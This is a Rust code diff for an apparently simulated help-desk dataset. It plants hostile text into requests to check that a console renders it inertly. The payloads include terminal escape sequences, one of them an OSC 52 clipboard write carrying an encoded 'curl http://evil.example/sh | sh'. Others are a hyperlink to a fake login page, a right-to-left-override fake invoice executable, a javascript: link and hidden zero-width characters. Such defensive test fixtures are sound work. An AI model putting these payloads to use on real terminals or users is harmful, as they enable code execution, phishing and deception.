@@ -3,6 +3,7 @@
 //! a comment can reverse the line with a bidi override, and HTML can be huge or absurdly deep.
 //! The console must render all of them inertly; the demo keeps them in plain sight (open, recent).
 
+use crate::sim::assets::HostileSeed;
 use crate::sim::dataset::{Comment, Request};
 use crate::sim::generate::text::escape;
 
@@ -13,9 +14,22 @@ struct Payload {
     comment: Option<String>,
 }
 
-fn payloads() -> Vec<Payload> {
+/// The payloads, in a fixed order; the asset gives the words around them so that each instance's
+/// hostile requests read like the rest of its requests.
+fn payloads(words: &HostileSeed) -> Vec<Payload> {
     let esc = '\u{1b}';
     let bel = '\u{7}';
+    let title = |index: usize| {
+        words
+            .titles
+            .get(index)
+            .map_or_else(|| format!("Request with odd text {}", index + 1), Clone::clone)
+    };
+    // A zero-width space right after the first word, where nobody sees it.
+    let hidden_space = |title: String| match title.split_once(' ') {
+        Some((first, rest)) => format!("{first}\u{200b} {rest}"),
+        None => format!("{title}\u{200b}"),
+    };
     // "curl http://evil.example/sh | sh", base64-encoded as OSC 52 expects.
     let clipboard = "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3NoIHwgc2g=";
     let nested_depth = 2_000;
@@ -24,28 +38,27 @@ fn payloads() -> Vec<Payload> {
         "<div>".repeat(nested_depth),
         "</div>".repeat(nested_depth)
     );
-    let log_line = "2026-10-31 23:59:59,123 ERROR [worker-7] com.northwind.erp.sync.BatchJob - \
-                    Timeout while waiting for lock on table LEDGER_ENTRIES (waited 30000 ms)";
-    let line = format!("{}\r\n", escape(log_line));
+    let line = format!("{}\r\n", escape(&words.log_line));
     let huge = format!(
         "<p>Full log attached inline as requested:</p>\r\n<pre>{}</pre>\r\n",
         line.repeat(200 * 1024 / line.len() + 1)
     );
     vec![
         Payload {
-            title: format!("Printer prints garbage characters {esc}]0;PWNED{bel}"),
+            title: format!("{} {esc}]0;PWNED{bel}", title(0)),
             description: None,
             comment: None,
         },
         Payload {
-            title: "Clipboard behaves strangely after SSH session".into(),
+            title: title(1),
             description: Some(format!(
-                "<p>I copied this from the jump host output:</p>\r\n<p>{esc}]52;c;{clipboard}{bel}</p>\r\n"
+                "<p>{}</p>\r\n<p>{esc}]52;c;{clipboard}{bel}</p>\r\n",
+                escape(&words.clipboard_intro)
             )),
             comment: None,
         },
         Payload {
-            title: "Attachment name looks reversed".into(),
+            title: title(2),
             description: None,
             comment: Some(
                 "<p>Please open the file invoice_\u{202e}fdp.exe and approve it today.</p>\r\n"
@@ -53,29 +66,31 @@ fn payloads() -> Vec<Payload> {
             ),
         },
         Payload {
-            title: "Build server log excerpt".into(),
+            title: title(3),
             description: Some(format!(
-                "<p>Output of the failed job:</p>\r\n<p>{esc}[2J{esc}[HBuild step 4/7 failed</p>\r\n"
+                "<p>{}</p>\r\n<p>{esc}[2J{esc}[H{}</p>\r\n",
+                escape(&words.screen_clear_intro),
+                escape(&words.screen_clear_text)
             )),
             comment: None,
         },
         Payload {
-            title: "VPN\u{200b} access for new contractor".into(),
+            title: hidden_space(title(4)),
             description: None,
             comment: None,
         },
         Payload {
-            title: "Email signature renders very strangely".into(),
+            title: title(5),
             description: Some(nested),
             comment: None,
         },
         Payload {
-            title: "Full application log for ERP crash (very long)".into(),
+            title: title(6),
             description: Some(huge),
             comment: None,
         },
         Payload {
-            title: "Link in the portal opens the wrong site".into(),
+            title: title(7),
             description: Some(format!(
                 "<p>The link {esc}]8;;http://evil.example/login{esc}\\Open the portal{esc}]8;;{esc}\\ \
                  goes somewhere else.</p>\r\n<p><a href=\"javascript:alert(1)\">Click here</a>\
@@ -90,6 +105,7 @@ fn payloads() -> Vec<Payload> {
 /// they do not all sit on the same screen) and returns their ids.
 pub fn plant(
     requests: &mut [Request],
+    words: &HostileSeed,
     open_status_ids: &[u64],
     next_comment_id: u64,
     now: i64,
@@ -105,7 +121,7 @@ pub fn plant(
         })
         .step_by(3)
         .collect();
-    for (payload, index) in payloads().into_iter().zip(targets) {
+    for (payload, index) in payloads(words).into_iter().zip(targets) {
         let Some(request) = requests.get_mut(index) else {
             continue;
         };
